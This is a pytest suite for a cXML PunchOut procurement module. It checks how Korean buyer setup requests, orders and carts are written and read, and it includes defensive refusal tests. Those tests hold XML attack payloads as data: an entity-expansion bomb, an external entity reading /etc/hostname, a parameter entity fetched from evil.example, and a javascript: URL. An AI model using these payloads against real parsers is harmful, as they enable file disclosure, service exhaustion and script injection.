"""PunchOut: what buyers' systems send is read with care, what we answer is cXML 1.2."""

from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import os
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from procurement.standards import cxml
from procurement.standards.cxml import CartLine, CxmlError, Identity, Operation, OrderType

HERE = Path(__file__).parent / "schemas" / "cxml"
OURS = etree.RelaxNG(etree.parse(HERE / "outputs.rng"))
KST = dt.timezone(dt.timedelta(hours=9))
NOW = dt.datetime(2026, 3, 2, 10, 0, tzinfo=KST)
PAYLOAD = cxml.payload_id(NOW, "7f3a", "onjang.example")

HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<!-- sent by a test -->
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd">
"""
HEADER = """<Header>
  <From>
    <Credential domain="NetworkID" type="marketplace"><Identity>AN00</Identity></Credential>
    <Credential domain="KR-BRN"><Identity> 6018300012 </Identity></Credential>
  </From>
  <To><Credential domain="KR-BRN"><Identity>1248100998</Identity></Credential></To>
  <Sender>
    <Credential domain="NetworkID"><Identity>AN01</Identity>
      <SharedSecret>열려라 참깨</SharedSecret></Credential>
    <UserAgent>Buyer 1.0</UserAgent>
  </Sender>
</Header>"""
SHIP_TO = """<ShipTo><Address isoCountryCode="KR" addressID="HQ">
  <Name xml:lang="ko">해운대구청</Name>
  <PostalAddress><DeliverTo>총무과</DeliverTo><Street>중동2로 11</Street><Street>3층</Street>
    <City>해운대구</City><State>부산광역시</State><PostalCode>48095</PostalCode>
    <Country isoCountryCode="KR">대한민국</Country></PostalAddress>
  <Email>desk@buyer.example</Email>
  <Phone><TelephoneNumber><CountryCode isoCountryCode="KR">82</CountryCode>
    <AreaOrCityCode>51</AreaOrCityCode><Number>7494000</Number></TelephoneNumber></Phone>
</Address></ShipTo>"""
ITEMS = """<ItemOut quantity="3" lineNumber="1" requestedDeliveryDate="2026-04-10">
  <ItemID><SupplierPartID>SNACK-1</SupplierPartID>
    <SupplierPartAuxiliaryID>v:77</SupplierPartAuxiliaryID></ItemID>
  <ItemDetail><UnitPrice><Money currency="KRW">15000</Money></UnitPrice>
    <Description xml:lang="ko">간식  꾸러미</Description><UnitOfMeasure>EA</UnitOfMeasure>
    <Classification domain="UNSPSC">50192100</Classification></ItemDetail>
  <Comments>개별 포장</Comments>
</ItemOut>
<ItemOut quantity="2.0" lineNumber="2">
  <ItemID><SupplierPartID>DISH-2</SupplierPartID></ItemID>
  <ItemDetail><UnitPrice><Money currency="KRW">5000.00</Money></UnitPrice>
    <Description xml:lang="ko">접시</Description><UnitOfMeasure>EA</UnitOfMeasure>
    <Classification domain="UNSPSC">52152000</Classification></ItemDetail>
</ItemOut>"""


def document(body: str, *, head: str = HEAD, header: str = HEADER, mode: str = "production") -> str:
    return (
        f'{head}<cXML payloadID="1@buyer.example" timestamp="2026-03-02T09:59:00+09:00">{header}'
        f'<Request deploymentMode="{mode}">{body}</Request></cXML>'
    )


def setup(operation: str = "create", *, items: str = "", extra: str = "") -> str:
    return document(
        f'<PunchOutSetupRequest operation="{operation}"><BuyerCookie>쿠키 &amp; 1</BuyerCookie>'
        f'<Extrinsic name="CostCenter">총무과</Extrinsic>'
        f"<BrowserFormPost><URL>https://buyer.example/punch?a=1&amp;b=2</URL></BrowserFormPost>"
        f"{extra}{SHIP_TO}{items}</PunchOutSetupRequest>",
        mode="test",
    )


def order(kind: str = "new", *, items: str = ITEMS, extra: str = "", total: str = "55000") -> str:
    return document(
        f'<OrderRequest><OrderRequestHeader orderID="PO-9" orderDate="2026-03-02T09:58:00+09:00" '
        f'type="{kind}" orderVersion="1" requestedDeliveryDate="2026-04-09T20:00:00Z">'
        f'<Total><Money currency="KRW">{total}</Money></Total>{SHIP_TO}'
        f"<BillTo>{SHIP_TO.removeprefix('<ShipTo>').removesuffix('</ShipTo>')}</BillTo>"
        f"<Comments>문앞에</Comments>{extra}</OrderRequestHeader>{items}</OrderRequest>"
    )


def refused(read: Callable[..., Any], text: str | bytes, code: int) -> str:
    with pytest.raises(CxmlError) as error:
        read(text if isinstance(text, bytes) else text.encode())
    assert error.value.code == code
    return error.value.text


CART = (
    CartLine("SNACK-1", 3, 15_000, "간식 꾸러미 <특별> & 포장", "v:77", unspsc="50192100"),
    CartLine(
        "DISH-2", 2, 5_000, "접시\x00\x1b", unit="SET", url="https://a.example/2", lead_days=3
    ),
)


def cart(lines: tuple[CartLine, ...] = CART, **changes: Any) -> bytes:
    told: dict[str, Any] = {
        "from_": Identity("KR-BRN", "1248100998"),
        "to": Identity("KR-BRN", "6018300012"),
        "sender": Identity("KR-BRN", "1248100998"),
        "payload_id": PAYLOAD,
        "now": NOW,
    }
    return cxml.order_message(lines, "쿠키 & 1", **(told | changes))


WRITTEN = {
    "a start page": lambda: cxml.setup_response(
        "https://onjang.example/punchout/abc?x=1&y=2", payload_id=PAYLOAD, now=NOW
    ),
    "a cart": cart,
    "a cart with shipping and tax": lambda: cart(shipping=3_000, tax=5_500, is_test=True),
    "an empty cart": lambda: cart(()),
    "a cart to look at": lambda: cart(operation_allowed=Operation.INSPECT),
    "thanks": lambda: cxml.response(200, payload_id=PAYLOAD, now=NOW),
    "a refusal": lambda: cxml.response(401, "비밀이 다릅니다.", payload_id=PAYLOAD, now=NOW),
}
READ = {
    "create": setup,
    "create at a product": lambda: setup(
        extra="<SupplierSetup><URL>https://onjang.example/p</URL></SupplierSetup>"
    ),
    "edit": lambda: setup("edit", items=ITEMS),
    "new": order,
    "update": lambda: order("update", extra='<DocumentReference payloadID="0@buyer.example"/>'),
}


# What we write --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", WRITTEN)
def test_what_we_write_holds_to_our_grammar(name: str) -> None:
    written = WRITTEN[name]()
    assert written.startswith(b"<?xml version='1.0' encoding='UTF-8'?>\n<!DOCTYPE cXML SYSTEM \"")
    OURS.assertValid(etree.parse(BytesIO(written)))


def test_our_grammar_would_notice() -> None:
    spoilt = etree.fromstring(cart())
    detail = spoilt.find(".//ItemDetail")
    assert detail is not None
    detail.append(detail[0])  # the price after the rest
    assert not OURS.validate(spoilt)


@pytest.mark.skipif("CXML_DTD" not in os.environ, reason="CXML_DTD names no official DTD")
@pytest.mark.parametrize("name", [*WRITTEN, *READ])
def test_documents_hold_to_the_official_dtd(name: str) -> None:
    dtd = etree.DTD(BytesIO(Path(os.environ["CXML_DTD"]).read_bytes()))
    text = WRITTEN[name]() if name in WRITTEN else READ[name]().encode()
    root = etree.fromstring(text)
    assert dtd.validate(root), dtd.error_log
    root.append(etree.Element("Status"))  # the control: the DTD was read
    assert not dtd.validate(root)


def test_the_cart_says_what_was_chosen() -> None:
    root = etree.fromstring(cart(shipping=3_000, tax=5_500))
    assert root.findtext(".//BuyerCookie") == "쿠키 & 1"
    assert root.findtext(".//Total/Money") == "55000"
    assert root.findtext(".//Shipping/Money") == "3000"
    assert root.findtext(".//Tax/Money") == "5500"
    first, second = root.findall(".//ItemIn")
    assert first.get("quantity") == "3"
    assert first.findtext("ItemID/SupplierPartID") == "SNACK-1"
    assert first.findtext("ItemID/SupplierPartAuxiliaryID") == "v:77"
    assert first.findtext("ItemDetail/UnitPrice/Money") == "15000"
    description = first.find("ItemDetail/Description")
    assert description is not None
    assert description.text == "간식 꾸러미 <특별> & 포장"
    assert description.get("{http://www.w3.org/XML/1998/namespace}lang") == "ko"
    assert first.findtext("ItemDetail/UnitOfMeasure") == "EA"
    assert first.findtext("ItemDetail/Classification") == "50192100"
    assert second.findtext("ItemDetail/Description") == "접시"
    assert second.findtext("ItemDetail/Classification") == cxml.UNCLASSIFIED


def test_no_secret_goes_through_the_buyers_browser() -> None:
    assert b"SharedSecret" not in cart()
    name, value = cxml.form_field(cart())
    assert name == "cxml-base64"
    assert base64.b64decode(value) == cart()


def test_answers_carry_code_phrase_and_a_korean_word() -> None:
    status = etree.fromstring(WRITTEN["a refusal"]()).find("Response/Status")
    assert status is not None
    assert (status.get("code"), status.get("text")) == ("401", "Unauthorized")
    assert status.text == "비밀이 다릅니다."
    start = etree.fromstring(WRITTEN["a start page"]())
    assert start.findtext(".//StartPage/URL") == "https://onjang.example/punchout/abc?x=1&y=2"
    assert start.get("timestamp") == "2026-03-02T10:00:00+09:00"
    assert PAYLOAD == "20260302010000.7f3a@onjang.example"


@pytest.mark.parametrize(
    "changes",
    [
        {"quantity": 0},
        {"unit_price": -1},
        {"unit_price": 1.5},
        {"sku": " "},
        {"unspsc": "간식"},
    ],
)
def test_a_cart_that_makes_no_sense_is_our_mistake(changes: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match=r"장바구니|금액"):
        cart((dataclasses.replace(CART[0], **changes),))


def test_our_own_mistakes_are_not_written() -> None:
    with pytest.raises(ValueError, match="상태 코드"):
        cxml.response(299, payload_id=PAYLOAD, now=NOW)
    with pytest.raises(ValueError, match="시간대"):
        cxml.response(200, payload_id=PAYLOAD, now=dt.datetime(2026, 1, 1))  # noqa: DTZ001


# What we read ---------------------------------------------------------------------------------


def test_a_setup_request_is_read() -> None:
    request = cxml.setup_request_read(setup().encode())
    header = request.header
    assert header.from_ == Identity("KR-BRN", "6018300012")
    assert header.to == Identity("KR-BRN", "1248100998")
    assert header.sender == Identity("NetworkID", "AN01")
    assert header.payload_id == "1@buyer.example"
    assert header.timestamp == dt.datetime(2026, 3, 2, 9, 59, tzinfo=KST)
    assert header.user_agent == "Buyer 1.0"
    assert header.is_test
    assert request.operation == Operation.CREATE
    assert request.buyer_cookie == "쿠키 & 1"
    assert request.form_post_url == "https://buyer.example/punch?a=1&b=2"
    assert request.extrinsics == (("CostCenter", "총무과"),)
    assert request.lines == ()
    assert request.ship_to == cxml.ShipTo(
        "해운대구청", "HQ", ("총무과",), ("중동2로 11", "3층"), "해운대구", "", "부산광역시",
        "48095", "KR", "desk@buyer.example", "82-51-7494000",
    )  # fmt: skip
    assert cxml.request_kind(setup().encode()) == "PunchOutSetupRequest"


def test_the_shared_secret_is_compared_and_never_shown() -> None:
    header = cxml.setup_request_read(setup().encode()).header
    assert header.is_secret("열려라 참깨")
    assert not header.is_secret("열려라")
    assert not header.is_secret("")
    assert "참깨" not in repr(header)


def test_an_edit_brings_its_cart_along() -> None:
    request = cxml.setup_request_read(setup("edit", items=ITEMS).encode())
    assert [(line.sku, line.auxiliary_id, line.quantity) for line in request.lines] == [
        ("SNACK-1", "v:77", 3),
        ("DISH-2", "", 2),
    ]
    chosen = setup(
        extra="<SelectedItem><ItemID><SupplierPartID>X</SupplierPartID></ItemID></SelectedItem>"
    )
    assert cxml.setup_request_read(chosen.encode()).selected_sku == "X"


def test_an_order_is_read() -> None:
    placed = cxml.order_request_read(order().encode())
    assert (placed.order_id, placed.type, placed.total) == ("PO-9", OrderType.NEW, 55_000)
    assert placed.ordered_at == dt.datetime(2026, 3, 2, 9, 58, tzinfo=KST)
    assert placed.lines_total == 55_000
    assert placed.deliver_on == dt.date(2026, 4, 10)  # the Korean day of 20:00 UTC
    assert placed.comments == "문앞에"
    assert placed.ship_to is not None
    assert placed.ship_to.streets == ("중동2로 11", "3층")
    first, second = placed.lines
    assert first == cxml.OrderLine(
        1, "SNACK-1", 3, "v:77", 15_000, "간식 꾸러미", "EA", dt.date(2026, 4, 10), "개별 포장"
    )
    assert (second.quantity, second.unit_price, second.deliver_on) == (2, 5_000, None)
    changed = cxml.order_request_read(READ["update"]().encode())
    assert (changed.type, changed.replaces_payload_id) == (OrderType.UPDATE, "0@buyer.example")
    assert cxml.order_request_read(order("delete").encode()).type == OrderType.DELETE


def test_lines_without_a_price_or_number_are_read_all_the_same() -> None:
    bare = '<ItemOut quantity="1"><ItemID><SupplierPartID>A</SupplierPartID></ItemID></ItemOut>'
    placed = cxml.order_request_read(order(items=bare * 2).encode())
    assert [line.number for line in placed.lines] == [1, 2]
    assert placed.lines_total is None


@pytest.mark.parametrize(
    ("encoding", "name"), [("utf-8", "UTF-8"), ("utf-8-sig", "utf-8"), ("cp949", "EUC-KR")]
)
def test_the_declared_encoding_is_read(encoding: str, name: str) -> None:
    text = setup().replace('encoding="UTF-8"', f'encoding="{name}"')
    assert cxml.setup_request_read(text.encode(encoding)).buyer_cookie == "쿠키 & 1"


@pytest.mark.parametrize(
    "head",
    [
        "",
        '<?xml version="1.0"?>',
        "<!DOCTYPE cXML SYSTEM 'cXML.dtd'>",
        '<!DOCTYPE cXML PUBLIC "x" "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd" >',
        '<?xml version="1.0" standalone="no"?><?go on?><!DOCTYPE cXML>',
    ],
)
def test_a_doctype_may_be_there_or_not(head: str) -> None:
    text = setup().replace(HEAD, head)
    assert cxml.setup_request_read(text.encode()).buyer_cookie == "쿠키 & 1"


# What we refuse -------------------------------------------------------------------------------

BOMB = '<!DOCTYPE cXML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
PEEK = '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/hostname">]>'


@pytest.mark.parametrize(
    "head",
    [
        BOMB,
        PEEK,
        f'<?xml version="1.0"?>{PEEK}',
        f'<?xml version="1.1"?>{PEEK}',
        f"<?xml version='1.0' encoding='UTF-8' odd='1'?>{PEEK}",
        f"\ufeff\ufeff{PEEK}",
        f"<!-- a --><?b c?>{PEEK}",
        '<!DOCTYPE cXML SYSTEM "cXML.dtd" [<!ELEMENT cXML ANY>]>',
        '<!DOCTYPE cXML SYSTEM "cXML.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
        "<!DOCTYPE html>",
        "<!DOCTYPE cXML SYSTEM 'a.dtd'><!DOCTYPE cXML SYSTEM 'b.dtd'>",
    ],
)
def test_no_document_brings_entities_of_its_own(head: str) -> None:
    refused(cxml.setup_request_read, setup().replace(HEAD, head), 406)
    refused(cxml.order_request_read, order().replace(HEAD, head), 406)


@pytest.mark.parametrize(
    "spoilt",
    [
        b"",
        b"not xml",
        b"<cXML>",
        b"<cxml/>",
        b"<cXML>&unknown;</cXML>",
        b"<cXML>\x00</cXML>",
        b"<cXML>\xff\xfe</cXML>",
        setup().encode("utf-16"),
        setup().replace("UTF-8", "UTF-7").encode(),
        b"<a>" * 300 + b"</a>" * 300,
        b"<cXML>" + b" " * cxml.LIMIT + b"</cXML>",
    ],
)
def test_what_does_not_parse_is_not_acceptable(spoilt: bytes) -> None:
    refused(cxml.setup_request_read, spoilt, 406)


@pytest.mark.parametrize(
    ("old", "new", "code"),
    [
        ("<SharedSecret>열려라 참깨</SharedSecret>", "", 401),
        ("열려라 참깨", " ", 401),
        ('payloadID="1@buyer.example"', "", 400),
        ('timestamp="2026-03-02T09:59:00+09:00"', 'timestamp="어제"', 400),
        ('timestamp="2026-03-02T09:59:00+09:00"', 'timestamp="2026-03-02T09:59:00"', 400),
        ("<To><Credential domain", "<To><Credential dom", 400),
        (" 6018300012 ", " ", 400),
        ("<BuyerCookie>쿠키 &amp; 1</BuyerCookie>", "", 400),
        ('operation="create"', 'operation="source"', 450),
        ('operation="create"', 'operation="steal"', 400),
        ('operation="create"', 'operation="edit"', 400),
        ("https://buyer.example/punch?a=1&amp;b=2", "", 400),
        ("https://buyer.example", "http://buyer.example", 400),
        ("https://buyer.example/punch?a=1&amp;b=2", "javascript:alert(1)", 400),
        ("https://buyer.example", "https://onjang.example:x@buyer.example", 400),
        ("https://buyer.example", "https://[", 400),
        ("https://buyer.example/punch", "https://buyer.example/ punch", 400),
        ("PunchOutSetupRequest", "ProfileRequest", 450),
        ("Request", "Anything", 400),
    ],
)
def test_a_setup_request_that_can_not_be(old: str, new: str, code: int) -> None:
    assert old in setup()
    text = refused(cxml.setup_request_read, setup().replace(old, new), code)
    assert "참깨" not in text


def test_a_cart_goes_back_without_tls_only_where_that_is_said() -> None:
    text = setup().replace("https://buyer.example", "http://localhost").encode()
    read = cxml.setup_request_read(text, allow_http=True)
    assert read.form_post_url == "http://localhost/punch?a=1&b=2"


@pytest.mark.parametrize(
    ("old", "new", "code"),
    [
        ('orderID="PO-9"', 'orderID=" "', 400),
        ('orderDate="2026-03-02T09:58:00+09:00"', "", 400),
        ('type="new"', 'type="maybe"', 400),
        ('type="new"', 'type="new" orderType="blanket"', 450),
        ('"KRW">55000', '"USD">55000', 400),
        ('"KRW">55000', '"KRW">55000.50', 400),
        ('"KRW">55000', '"KRW">55,000', 400),
        ('"KRW">55000', '"KRW">-1', 400),
        ('"KRW">55000', '"KRW">1e99', 400),
        ('"KRW">15000', '"USD">15000', 400),
        (ITEMS, "", 400),
        ('quantity="3"', 'quantity="0"', 400),
        ('quantity="3"', 'quantity="1.5"', 400),
        ('quantity="3"', 'quantity="３"', 400),
        ('quantity="3"', "", 400),
        ('lineNumber="2"', 'lineNumber="1"', 400),
        ('lineNumber="2"', 'lineNumber="-2"', 400),
        ("<SupplierPartID>DISH-2</SupplierPartID>", "", 400),
        ('requestedDeliveryDate="2026-04-10"', 'requestedDeliveryDate="4월"', 400),
        ("OrderRequestHeader", "OrderHeader", 400),
        ("<Total>", "<Sum>", 406),
        ("열려라 참깨", "", 401),
    ],
)
def test_an_order_that_can_not_be(old: str, new: str, code: int) -> None:
    assert old in order()
    refused(cxml.order_request_read, order().replace(old, new), code)


def test_an_order_has_an_end() -> None:
    bare = '<ItemOut quantity="1"><ItemID><SupplierPartID>A</SupplierPartID></ItemID></ItemOut>'
    text = order(items=bare * (cxml.MAX_LINES + 1))
    assert "1000줄" in refused(cxml.order_request_read, text, 400)


def test_a_document_without_a_request_asks_for_nothing() -> None:
    assert cxml.request_kind(cart()) == ""
